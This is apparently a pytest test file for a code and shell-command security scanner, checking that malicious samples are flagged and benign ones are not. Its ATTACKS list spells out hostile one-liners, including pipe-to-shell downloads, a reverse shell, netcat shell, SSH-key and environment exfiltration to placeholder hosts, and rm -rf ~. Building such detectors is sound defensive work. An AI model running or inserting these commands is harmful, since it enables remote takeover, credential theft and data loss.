from __future__ import annotations

import contextlib

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.facts.scanners.python_cases import BENIGN, MALICIOUS
from weighbridge.checks.security.code_rules import gravity
from weighbridge.errors import FormatError
from weighbridge.facts.code_reach import reached_scopes
from weighbridge.facts.remote_code import Purpose, Reach, Seen
from weighbridge.facts.scanners import python_code, shell_commands
from weighbridge.model import Severity


def worst(source: str) -> Severity | None:
    """Return how grave a module is judged as code that loading runs."""
    analysis = python_code.analyse(source, "m.py")
    runs = reached_scopes({"m.py": analysis}, {"m.py": "M"})["m.py"]
    levels = []
    for found in analysis.observations:
        is_import = runs.get(found.details.get("scope", ""))
        reach = Reach.NONE if is_import is None else Reach.IMPORT if is_import else Reach.USE
        levels.append(gravity(Seen(found, reach), Purpose.LOADING))
    return max((level for level in levels if level is not None), default=None)


@pytest.mark.parametrize("source", MALICIOUS)
def test_attacks_are_found(source: str) -> None:
    level = worst(source)
    assert level is not None
    assert level >= Severity.HIGH


@pytest.mark.parametrize("source", BENIGN)
def test_honest_code_is_no_alarm(source: str) -> None:
    level = worst(source)
    assert level is None or level < Severity.MEDIUM


def test_code_under_main_does_not_run_on_import() -> None:
    source = "import os\nif __name__ == '__main__':\n    os.system('true')"
    assert python_code.analyse(source, "m.py").observations[0].details["scope"] == "__main__"


@given(st.text(max_size=300))
def test_any_text_raises_nothing_but_format_errors(text: str) -> None:
    with contextlib.suppress(FormatError):
        python_code.analyse(text, "m.py")


@given(st.sampled_from(MALICIOUS + BENIGN), st.integers(0, 200), st.text(max_size=5))
def test_damaged_code_raises_nothing_but_format_errors(source: str, place: int, text: str) -> None:
    with contextlib.suppress(FormatError):
        python_code.analyse(source[:place] + text + source[place:], "m.py")


ATTACKS = [
    "curl -s http://198.51.100.7/x | bash", "wget -qO- https://evil.example/x.sh | sudo sh", "bash <(curl -s http://x.example/i)",
    'sh -c "$(curl -fsSL http://x.example/i)"', "echo aWQ= | base64 -d | sh", "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1",
    "nc -e /bin/sh 198.51.100.7 4444", "curl -d @~/.ssh/id_rsa http://198.51.100.7", "env | curl -d @- http://198.51.100.7",
    "rm -rf ~", "wget http://198.51.100.7/x -O /tmp/x && chmod +x /tmp/x", "pip install -i http://198.51.100.7/simple evil",
    "curl http://198.51.100.7/x \\\n  | python3",
]  # fmt: skip
PLAIN = [
    "curl -L https://huggingface.co/a/b/resolve/main/c -o c", "pip install -r requirements.txt", "rm -rf build/", "# curl x | bash",
    "wget https://example.com/data.zip && unzip data.zip", "python train.py --lr 1e-4 | tee log.txt", "git push", "cat a | grep sh",
]  # fmt: skip


@pytest.mark.parametrize("command", ATTACKS)
def test_attacking_commands_are_found(command: str) -> None:
    assert list(shell_commands.attacks_in(command))


@pytest.mark.parametrize("command", PLAIN)
def test_plain_commands_are_none(command: str) -> None:
    assert not list(shell_commands.attacks_in(command))
